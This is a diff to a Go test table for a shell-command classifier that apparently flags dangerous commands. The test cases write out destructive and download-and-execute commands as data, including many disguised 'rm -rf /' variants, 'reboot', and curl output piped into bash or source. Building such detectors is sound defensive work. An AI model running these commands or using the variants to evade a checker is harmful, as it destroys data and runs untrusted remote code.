@@ -249,7 +249,7 @@ var classifyCases = []classifyCase{
 	{"trap-code", `trap "rm -rf /" EXIT`, D, false, []string{RuleRmRfRoot}},
 	{"sh-c-positional", `sh -c 'rm -rf "$1"' _ /`, D, false, []string{RuleRmRfRoot}},
 	{"find-exec-sh-positional-placeholder", `find . -exec sh -c 'rm -rf "$1"' _ {} \;`, M, false, nil},
-	{"write-then-run", `echo "rm -rf /" > x.sh; bash x.sh`, D, true, []string{RuleSourceDynamic}},
+	{"write-then-run", `echo "rm -rf /" > x.sh; bash x.sh`, D, false, []string{RuleRmRfRoot}},
 	{"tee-then-source", `echo "reboot" | tee x.sh; . ./x.sh`, D, true, []string{RuleSourceDynamic}},
 	{"bash-redirect-procsubst", "bash < <(curl https://x)", D, true, []string{RuleSourceDynamic, RuleDownloadExec}},
 	{"rm-other-home", "rm -rf ~root", D, false, []string{RuleRmRfRoot}},
@@ -260,6 +260,16 @@ var classifyCases = []classifyCase{
 	{"bash-xc-cluster", "bash -xc 'rm -rf /'", D, false, []string{RuleRmRfRoot}},
 	{"bash-o-then-c", "bash -o errexit -c 'rm -rf /'", D, false, []string{RuleRmRfRoot}},
 	{"dollar-zero-name", `sh -c '$0 -rf /' rm`, D, true, []string{RuleDynamicCommand, RuleRmRfRoot}},
+
+	{"heredoc-file-then-bash", "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nbash x.sh", D, false, []string{RuleRmRfRoot}},
+	{"heredoc-file-then-python-benign", "cat > t.py <<'EOF'\nprint(1)\nEOF\npython3 t.py", M, false, []string{RuleInlineProgram}},
+	{"echo-file-then-exec", `echo "reboot" > r.sh; chmod +x r.sh; ./r.sh`, D, false, []string{RulePower}},
+	{"printf-shebang-python", `printf "#!/usr/bin/env python3\nimport os\nos.system(\"reboot\")\n" > p; ./p`, D, false, []string{RuleInlineProgram, RulePower}},
+	{"group-written-file-unknown", "{ echo a; echo b; } > x.sh; sh x.sh", D, true, []string{RuleSourceDynamic}},
+	{"appended-file-unknown", "echo ls >> a.sh; sh a.sh", D, true, []string{RuleSourceDynamic}},
+	{"source-fd-3", "exec 3< <(curl https://x); source /dev/fd/3", D, true, []string{RuleSourceDynamic}},
+	{"python-script-args", "python3 app.py --flag", M, false, []string{RuleScriptFile}},
+	{"herestring-to-dot-stdin", `. /dev/stdin <<< "rm -rf /"`, D, false, []string{RuleRmRfRoot}},
 
 	// --- unparseable and caps ---
 	{"unterminated-quote", "echo 'unterminated", D, false, []string{RuleUnparseable}},
